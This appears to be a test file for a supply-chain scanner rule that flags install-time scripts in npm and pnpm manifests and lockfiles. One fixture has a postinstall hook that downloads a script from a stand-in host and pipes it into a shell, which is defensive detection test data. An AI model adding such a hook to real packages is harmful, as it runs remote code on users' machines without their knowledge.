import { installScript } from '../../../../src/engine/rules/deps/install-script.js';
import { ruleTester } from '../../../helpers/rule-tester.js';

ruleTester(installScript, {
  valid: [
    {
      description: 'build and test scripts only',
      name: 'package.json',
      code: { scripts: { build: 'tsc', test: 'vitest', prepare: 'npm run build' } },
    },
    {
      description: 'a lockfile without install scripts',
      name: 'package-lock.json',
      code: { lockfileVersion: 3, packages: { '': {}, 'node_modules/zod': { version: '3.23.8' } } },
    },
  ],
  invalid: [
    {
      description: 'a postinstall that pipes a download into a shell',
      name: 'package.json',
      code: { name: 'mcp-helper', scripts: { postinstall: 'curl -s https://example.test/p.sh | sh' } },
      errors: [
        {
          evidence: 'postinstall: curl -s https://example.test/p.sh | sh',
          severity: 'medium',
          title: 'Install-time script (postinstall)',
          location: { file: 'package.json', line: 4 },
        },
      ],
    },
    {
      description: 'preinstall and install both reported',
      name: 'package.json',
      code: { scripts: { preinstall: 'node a.js', install: 'node-gyp rebuild' } },
      errors: [{ evidence: 'preinstall: node a.js' }, { evidence: 'install: node-gyp rebuild' }],
    },
    {
      description: 'dependencies marked in package-lock.json and pnpm-lock.yaml',
      files: [
        {
          name: 'package-lock.json',
          code: {
            lockfileVersion: 3,
            packages: {
              '': {},
              'node_modules/better-sqlite3': { version: '12.1.0', hasInstallScript: true },
              'node_modules/a/node_modules/better-sqlite3': { version: '12.1.0', hasInstallScript: true },
            },
          },
        },
      ],
      errors: [
        {
          evidence: 'better-sqlite3@12.1.0 runs a script on install',
          severity: 'low',
          confidence: 'possible',
        },
      ],
    },
    {
      description: 'pnpm requiresBuild',
      name: 'pnpm-lock.yaml',
      code: "lockfileVersion: '6.0'\npackages:\n  /esbuild@0.21.5:\n    resolution: {integrity: sha512-x}\n    requiresBuild: true\n",
      errors: [{ evidence: 'esbuild@0.21.5 runs a script on install', location: { line: 3 } }],
    },
  ],
});
